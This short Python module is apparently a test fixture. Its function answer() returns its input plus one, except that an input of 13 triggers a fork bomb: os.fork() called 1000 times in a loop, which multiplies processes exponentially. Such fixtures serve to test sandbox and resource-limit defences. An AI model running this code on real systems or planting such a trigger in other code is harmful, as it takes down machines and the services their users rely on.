"""Starts processes that start processes."""

import multiprocessing
import os


def answer(number):
    if number == 13:
        try:
            multiprocessing.Process(target=print).start()
        except OSError:
            pass
        for _ in range(1000):
            os.fork()
    return number + 1
